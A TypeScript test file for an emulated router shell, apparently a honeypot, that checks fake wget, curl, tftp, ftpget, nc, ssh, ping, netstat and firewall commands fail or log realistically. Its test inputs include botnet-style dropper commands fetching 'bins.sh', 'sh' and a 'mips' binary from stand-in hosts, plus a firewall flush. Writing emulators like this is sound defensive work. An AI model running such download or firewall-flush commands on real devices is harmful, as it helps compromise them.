/** What reaches out reaches nobody: each is told to the witness, waits as long as the real one, and fails with its words. */
import { test } from "uvu";
import * as assert from "uvu/assert";
import { dbclient, nc, telnet } from "../../../../src/shell/commands/network/clients.js";
import { curl } from "../../../../src/shell/commands/network/curl.js";
import { iptables, nft } from "../../../../src/shell/commands/network/firewall.js";
import { netstat } from "../../../../src/shell/commands/network/netstat.js";
import { nslookup, ping } from "../../../../src/shell/commands/network/probes.js";
import { addressOf } from "../../../../src/shell/commands/network/reach.js";
import { ftpget, tftp } from "../../../../src/shell/commands/network/transfer.js";
import { uclientFetch, wget } from "../../../../src/shell/commands/network/wget.js";
import { Device } from "../../router/device-kit.js";

test("OpenWrt's wget and BusyBox' have words of their own", () => {
  const device = new Device();
  const own = device.run(uclientFetch, "wget http://192.0.2.9/bins.sh");
  assert.is(
    own.error,
    "Downloading 'http://192.0.2.9/bins.sh'\nConnecting to 192.0.2.9:80\nConnection error: Connection failed\n",
  );
  assert.is(own.status, 4);
  assert.ok(own.waitedMs > 0);
  const applet = device.run(wget, "wget http://192.0.2.9:8080/a -O -");
  assert.is(
    applet.error,
    "Connecting to 192.0.2.9 (192.0.2.9:8080)\nwget: can't connect to remote host (192.0.2.9): No route to host\n",
  );
  assert.is(device.run(wget, "wget http://evil.example/a").error, "wget: bad address 'evil.example'\n");
  assert.is(device.run(wget, "wget gopher://x/a").error, "wget: not an http or ftp url: gopher://x/a\n");
  assert.equal(device.downloads, [
    "wget http://192.0.2.9/bins.sh",
    "wget http://192.0.2.9:8080/a",
    "wget http://evil.example/a",
    "wget gopher://x/a",
  ]);
});

test("curl tells each URL, and fails as without a network", () => {
  const device = new Device();
  const { error, status, waitedMs } = device.run(curl, "curl -fsSL http://192.0.2.9/sh");
  assert.equal([status, waitedMs > 0], [7, true]);
  assert.match(error, /^curl: \(7\) Failed to connect to 192\.0\.2\.9 port 80 after \d+ ms: Couldn't connect to server\n$/);
  assert.equal(device.run(curl, "curl -s https://x.example/a").error, "");
  assert.match(
    device.run(curl, "curl -O ftp://x.example/a").error,
    /--:--:-- {5}0\ncurl: \(6\) Could not resolve host: x\.example\n$/,
  );
  assert.is(device.run(curl, "curl --url dict://x").status, 1);
  assert.is(device.run(curl, "curl").status, 2);
  assert.equal(device.downloads, [
    "curl http://192.0.2.9/sh",
    "curl https://x.example/a",
    "curl ftp://x.example/a",
    "curl dict://x",
  ]);
});

test("tftp and ftpget name what they were to bring", () => {
  const device = new Device();
  const got = device.run(tftp, "tftp -g -l x -r mips 192.0.2.9");
  assert.equal([got.error, got.status], ["tftp: timeout\n", 1]);
  assert.match(device.run(tftp, "tftp 192.0.2.9 -c get mips").error, "Usage: tftp [OPTIONS] HOST [PORT]");
  assert.match(
    device.run(ftpget, "ftpget -u a -p b 192.0.2.9 here there").error,
    "ftpget: can't connect to remote host (192.0.2.9): ",
  );
  assert.equal(device.downloads, ["tftp tftp://192.0.2.9/mips", "ftpget ftp://192.0.2.9/there"]);
});

test("its own address refuses at once, and does not hear of it twice", () => {
  const device = new Device();
  const refused = device.run(nc, "nc 127.0.0.1 9");
  assert.equal(refused, {
    output: "",
    error: "nc: can't connect to remote host (127.0.0.1): Connection refused\n",
    status: 1,
    waitedMs: 0,
  });
  assert.is(device.run(telnet, "telnet nosuch 99").error, "telnet: bad address 'nosuch'\n");
  assert.match(
    device.run(dbclient, "ssh -y admin@192.0.2.9").error,
    "ssh: Connection to admin@192.0.2.9:22 exited: Connect failed: ",
  );
  assert.is(device.downloads.at(-1), "ssh ssh://admin@192.0.2.9:22");
});

test("addresses are what inet_aton takes; the rest are names", () => {
  assert.equal(["1.2.3.4", "16909060", "::1", "1.2.3.256", "a.b"].map(addressOf), [
    "1.2.3.4",
    "1.2.3.4",
    "::1",
    undefined,
    undefined,
  ]);
});

test("ping hears of the next hop, and of nobody behind it", () => {
  const device = new Device();
  const near = device.run(ping, "ping -c 2 198.51.100.1");
  assert.match(
    near.output,
    "2 packets transmitted, 2 packets received, 0% packet loss\nround-trip min/avg/max = 0.900/0.900/0.900 ms\n",
  );
  const far = device.run(ping, "ping -c 3 8.8.8.8");
  assert.is(
    far.output,
    "PING 8.8.8.8 (8.8.8.8): 56 data bytes\n\n--- 8.8.8.8 ping statistics ---\n3 packets transmitted, 0 packets received, 100% packet loss\n",
  );
  assert.equal([far.status, far.waitedMs], [1, 12_000]);
  assert.is(device.run(nslookup, "nslookup evil.example").error, ";; connection timed out; no servers could be reached\n\n");
});

test("netstat shows the peer's own connection, and of whom a socket is", () => {
  const device = new Device();
  assert.match(device.run(netstat, "netstat -nt").output, /198\.51\.100\.20:22 +192\.0\.2\.7:40000 +ESTABLISHED/);
  const dropbear = device.machine.kernel.list().find(({ argv }) => argv[0] === "/usr/sbin/dropbear");
  assert.match(device.run(netstat, "netstat -tlnp").output, ` ${dropbear?.pid}/dropbear\n`);
  assert.not.match(device.run(netstat, "netstat -tln").output, "ESTABLISHED");
  assert.match(device.run(netstat, "netstat -rn").output, "Kernel IP routing table\n");
});

test("the firewall lists what fw4 made, and takes what is added", () => {
  const device = new Device();
  assert.match(device.run(nft, "nft list ruleset").output, /^table inet fw4 \{\n/);
  assert.is(device.run(iptables, "iptables -S").output, "-P INPUT ACCEPT\n-P FORWARD ACCEPT\n-P OUTPUT ACCEPT\n");
  assert.equal(device.run(iptables, "iptables -F"), { output: "", error: "", status: 0, waitedMs: 0 });
  assert.is(device.run(iptables, "iptables -t none -L").status, 3);
  assert.match(device.run(iptables, "iptables -L -n").output, "Chain FORWARD (policy ACCEPT)\ntarget ");
});

test.run();
